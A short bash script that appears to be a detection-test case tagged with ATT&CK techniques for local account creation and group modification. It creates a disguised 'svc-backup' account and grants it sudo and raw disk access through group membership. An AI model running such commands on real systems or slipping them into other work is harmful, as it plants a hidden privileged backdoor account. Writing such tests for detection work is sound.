#!/bin/bash
# Create a service-looking account and give it sudo and raw disk access through groups.
# technique: T1136.001 T1098.007
# expect: privileged-group-add local-account-creation
set -eu
useradd -M -s /bin/bash svc-backup
usermod -aG sudo svc-backup
gpasswd -a svc-backup disk > /dev/null
id svc-backup
